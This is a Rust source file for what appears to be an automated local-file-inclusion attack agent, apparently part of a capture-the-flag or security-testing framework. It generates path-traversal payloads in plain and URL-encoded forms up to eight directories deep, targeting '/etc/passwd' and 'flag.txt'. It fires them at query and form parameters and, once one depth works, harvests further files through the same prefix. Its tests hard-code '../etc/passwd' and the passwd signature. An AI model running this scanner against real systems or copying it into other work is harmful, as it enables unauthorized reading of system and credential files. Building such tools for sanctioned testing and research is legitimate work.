//! File-inclusion agent: traversal corpus over depths 1-8, plain then
//! URL-encoded, targeting known sentinel files.

use async_trait::async_trait;

use super::{Agent, AgentCx, AgentError, AgentOutput};
use crate::payload::LFI_SEEDS;
use crate::state::{
    AttemptOutcome, Channel, Evidence, EvidenceDetail, Finding, InjectionPoint, VulnClass,
};

fn traversal_candidates() -> Vec<String> {
    let mut out = Vec::new();
    for depth in 1..=LFI_SEEDS.max_depth {
        for target in &LFI_SEEDS.targets {
            out.push(format!("{}{}", "../".repeat(depth as usize), target.path));
        }
    }
    for depth in 1..=LFI_SEEDS.max_depth {
        for target in &LFI_SEEDS.targets {
            out.push(format!("{}{}", "%2e%2e%2f".repeat(depth as usize), target.path));
        }
    }
    out
}

fn sentinel_hit(body: &str, flag_hit: bool) -> Option<String> {
    for target in &LFI_SEEDS.targets {
        if let Some(signature) = &target.signature {
            if body.contains(signature.as_str()) {
                return Some(signature.clone());
            }
        }
    }
    flag_hit.then(|| "flag content".to_string())
}

/// Finding iff a sentinel file signature (or the flag) appears in the
/// response; the payload records which encoding succeeded.
pub async fn lfi_scan(
    cx: &mut AgentCx<'_>,
    point: &InjectionPoint,
) -> Result<Option<Finding>, AgentError> {
    let siblings = cx.siblings(point);
    let session = cx.session.clone();
    for candidate in traversal_candidates() {
        if cx.out_of_time() {
            break;
        }
        if cx.suppressed(&point.key(), VulnClass::Lfi, candidate.as_bytes()) {
            continue;
        }
        let resp = cx
            .engine
            .execute_tagged(point, candidate.as_bytes(), &siblings, session.as_ref(), "probe")
            .await?;
        let body = resp.body_text().into_owned();
        let mut flag = cx.flag_in(body.as_bytes());
        let Some(signature) = sentinel_hit(&body, flag.is_some()) else {
            cx.register(
                &point.key(),
                VulnClass::Lfi,
                candidate.as_bytes(),
                AttemptOutcome::NoSignal,
                body.as_bytes(),
            );
            continue;
        };
        let mut trace = vec![resp.request.clone()];
        let mut last_body = body;

        // Traversal works at this depth and encoding: harvest the remaining
        // targets through the same prefix until a flag surfaces.
        if flag.is_none() {
            let matched_target = LFI_SEEDS
                .targets
                .iter()
                .find(|t| candidate.ends_with(&t.path))
                .map(|t| t.path.clone());
            if let Some(matched) = matched_target {
                let prefix = candidate.trim_end_matches(&matched).to_string();
                for target in LFI_SEEDS.targets.iter().filter(|t| t.path != matched) {
                    let harvest = format!("{prefix}{}", target.path);
                    let hresp = cx
                        .engine
                        .execute_tagged(
                            point,
                            harvest.as_bytes(),
                            &siblings,
                            session.as_ref(),
                            "exploit",
                        )
                        .await?;
                    let hbody = hresp.body_text().into_owned();
                    let found = cx.flag_in(hbody.as_bytes());
                    cx.register(
                        &point.key(),
                        VulnClass::Lfi,
                        harvest.as_bytes(),
                        if found.is_some() {
                            AttemptOutcome::PartialSignal
                        } else {
                            AttemptOutcome::NoSignal
                        },
                        hbody.as_bytes(),
                    );
                    if found.is_some() {
                        trace.push(hresp.request.clone());
                        flag = found;
                        last_body = hbody;
                        break;
                    }
                }
            }
        }

        let finding = Finding {
            vuln_class: VulnClass::Lfi,
            point: point.key(),
            payload: candidate.clone().into_bytes(),
            evidence: Evidence {
                detail: EvidenceDetail::ExtractedData { data: signature.into_bytes() },
                request_trace: trace,
            },
            solved_flag: flag,
            elapsed_s: cx.elapsed_s(),
            tokens_spent: cx.tokens_spent(),
            exploit_attempts: 1,
        };
        cx.emit_finding(finding.clone(), last_body.as_bytes());
        return Ok(Some(finding));
    }
    Ok(None)
}

fn relevance(point: &InjectionPoint) -> u8 {
    let name = point.name.to_lowercase();
    let hinted = ["file", "path", "page", "doc", "include", "template", "lang"]
        .iter()
        .any(|h| name.contains(h));
    u8::from(!hinted)
}

pub struct LfiAgent;

#[async_trait]
impl Agent for LfiAgent {
    fn class(&self) -> VulnClass {
        VulnClass::Lfi
    }

    async fn run(&self, cx: &mut AgentCx<'_>) -> Result<AgentOutput, AgentError> {
        let mut output = AgentOutput::default();
        let mut points: Vec<InjectionPoint> = cx
            .state
            .surface
            .iter()
            .filter(|p| matches!(p.channel, Channel::Query | Channel::BodyField))
            .cloned()
            .collect();
        // Name hints elevate likely file parameters; order stays stable.
        points.sort_by_key(|p| (relevance(p), p.key()));
        for point in points {
            if cx.out_of_time() {
                break;
            }
            match lfi_scan(cx, &point).await {
                Ok(Some(_)) => {
                    output.findings_added += 1;
                    if cx.state.solved() {
                        break;
                    }
                }
                Ok(None) => {}
                Err(err) if err.is_budget() => return Err(err),
                Err(err) => tracing::debug!(%err, "lfi scan failed on point"),
            }
        }
        Ok(output)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn corpus_orders_plain_before_encoded() {
        let candidates = traversal_candidates();
        assert_eq!(candidates[0], "../etc/passwd");
        assert_eq!(candidates[1], "../flag.txt");
        let first_encoded = candidates.iter().position(|c| c.starts_with("%2e")).unwrap();
        assert!(candidates[..first_encoded].iter().all(|c| c.starts_with("../")));
        // depths 1..=8, two targets, two encodings
        assert_eq!(candidates.len(), 8 * 2 * 2);
    }

    #[test]
    fn sentinel_signature_matches() {
        assert_eq!(
            sentinel_hit("root:x:0:0:root:/root:/bin/bash", false),
            Some("root:x:0:0".to_string())
        );
        assert_eq!(sentinel_hit("nothing", false), None);
        assert_eq!(sentinel_hit("nothing", true), Some("flag content".to_string()));
    }
}
